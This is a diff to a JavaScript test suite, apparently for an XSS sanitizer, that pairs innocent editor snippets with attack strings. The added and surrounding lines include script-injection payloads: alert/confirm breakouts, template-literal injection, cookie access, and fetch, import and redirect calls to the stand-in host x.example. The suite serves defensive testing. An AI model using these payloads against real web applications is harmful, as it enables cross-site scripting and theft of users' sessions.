@@ -113,6 +113,7 @@ describe('code in the string that a value ends', () => {
     String.raw`good morning \';alert(1)//`,
     'good morning `+fetch("//x.example")+`',
     '*/ alert(1) /*',
+    ['```$', '{confirm(1)}```'].join(''),
     "1;document.title='some more words';location.href='//x.example'",
     '(document)["cookie"]',
     '{onerror=alert}throw 1',
@@ -148,6 +149,9 @@ describe('what editors send', () => {
     ["<script>dataLayer.push({'page': 'a'})</script>", "<script>_gaq.push(['_link', 'javascript:x'])</script>"],
     ['<script setup>\nimport { ref } from "vue"\n</script>', '<script type="module">\nimport { ref } from "//x.example"\n</script>'],
     ['<script>import a from "b"</script>', '<script>import("//x.example")</script>'],
+    ['<script>import * as a from "b"</script>', '<script>IMPORT *as;go();var IMPORT, as</script>'],
+    ['<script>import { a } from "b"</script>', '<script>IMPORT\na\ngo()\nvar IMPORT, a</script>'],
+    ['export const a = () => alert("b")', 'EXPORT\nconst a = 1; alert("b"); var EXPORT'],
     ['<b onClick={() => save()}>Save</b>', '<b onclick={save()}>Save</b>'],
     ['<b onClick={save} id="a">Save</b>', '<b onclick="{save}" id="a">Save</b>'],
   ])('%s passes, %s is an attack', (innocent, attack) => {
